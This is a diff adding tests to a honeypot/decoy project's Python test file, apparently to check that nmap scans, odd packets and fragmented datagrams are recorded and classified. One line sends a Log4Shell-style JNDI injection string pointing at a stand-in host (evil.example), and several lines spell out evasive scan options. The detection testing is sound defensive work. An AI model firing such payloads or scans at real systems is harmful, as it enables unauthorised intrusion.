@@ -1,4 +1,6 @@
 """What a decoy with privileges hears: test_decoy_hears.py CALTROP"""
+import sys
+
 from decoy_case import DecoyCase, main, ports_of, until
 
 FAST = ("--min-rate", "20000")
@@ -55,6 +57,43 @@ class Hears(DecoyCase):
             self.network.on(self.peer, "nmap", "-n", "-sn", "-PE", "--send-ip", *options, target)
         until("both pings", lambda: {a["source"]["ip"] for a in decoy.actors()} >= {"10.9.0.2", "fd09::2"})
         self.assertEqual(decoy.actors("10.9.0.2")[0]["caltrop"]["techniques"], ["ping"])
+
+    def test_services_asked_for_over_udp(self):
+        """nmap -sU -sV: its questions are recorded, and nothing answers them."""
+        decoy = self.decoy()
+        said = self.nmap("-sU", "-sV", "--version-intensity", "5", "--host-timeout", "60s", "-p", "53,123,137,161,500,1900,5353", "--max-rtt-timeout", "200ms")
+        decoy.quiet()
+        decoy.stop()
+        self.assertNotRegex(said, r"(?m)^\d+/udp +open ")
+        asked = {c["destination"]["port"] for c in decoy.contacts() if c["network"]["transport"] == "udp"}
+        self.assertEqual(asked, {53, 123, 137, 161, 500, 1900, 5353})
+        self.assertEqual([a["caltrop"]["news"] for a in decoy.actors("10.9.0.2")].count("new"), 1)
+
+    def test_odd_packets(self):
+        """Cut into fragments, with options and extension headers, other requests than echo: what the documents say is heard, is; and what they say is not."""
+        decoy = self.decoy("--observe")
+        heard = [(("-sS", "-f", "-p", "1001"), 1001), (("-sS", "-f", "-f", "-p", "1002"), 1002), (("-sS", "--ip-options", "R", "-p", "1003"), 1003), (("-sS", "--data-length", "900", "--mtu", "24", "-p", "1004"), 1004),
+                 (("-6", "-sS", "-p", "1005"), 1005), (("-sM", "-p", "2001"), None), (("-sA", "-p", "2002"), None), (("-sW", "-p", "2003"), None), (("-sY", "-p", "2004"), None), (("-sO", "-p", "2,47,132,136"), None)]
+        for options, _ in heard:
+            self.nmap(*options, target="fd09::1" if "-6" in options else "10.9.0.1")
+        for n, code in enumerate(("s=socket.socket(10, 1); s.setsockopt(41, 59, bytes(8))",         # IPV6_DSTOPTS
+                                  "s=socket.socket(10, 1); s.setsockopt(41, 54, bytes(8))",         # IPV6_HOPOPTS
+                                  "s=socket.socket(2, 1); s.setsockopt(0, 4, b'\\x94\\x04\\0\\0')")):  # router alert
+            self.network.on(self.peer, sys.executable, "-c", "import socket\n%s\nprint(s.connect_ex((%r, %d)))" % (code, "10.9.0.1" if n == 2 else "fd09::1", 1011 + n))
+        # A datagram in fragments: the first has its port and what it says.
+        self.network.on(self.peer, sys.executable, "-c", "import socket; s=socket.socket(2, 2); s.sendto(b'${jndi:ldap://evil.example/f}' + b'x' * 5000, ('10.9.0.1', 1021))")
+        for option in ("-PE", "-PP", "-PM"):
+            self.network.on(self.network.peers[1], "nmap", "-n", "-sn", "--send-ip", "--disable-arp-ping", option, "10.9.0.1")
+        until("the payload", lambda: any(a["caltrop"].get("grade") == "exploit" for a in decoy.actors()))
+        decoy.quiet()
+        decoy.stop()
+        mine = [decoy.actors(source)[-1]["caltrop"] for source in ("10.9.0.2", "fd09::2")]
+        self.assertEqual(ports_of(mine[0]["tcp"]["ports"]) | ports_of(mine[1]["tcp"]["ports"]), {1001, 1002, 1003, 1004, 1005, 1011, 1012, 1013})
+        self.assertEqual(ports_of(mine[0]["udp"]["ports"]), {1021})
+        self.assertEqual(sorted(mine[0]["techniques"]), ["null", "syn", "udp"])
+        pinged = decoy.actors("10.9.0.3")[-1]["caltrop"]
+        self.assertEqual(pinged["techniques"], ["ping"])
+        self.assertGreaterEqual(pinged["touches"], 3)
 
     def test_two_scanners_are_two(self):
         decoy = self.decoy("--observe")
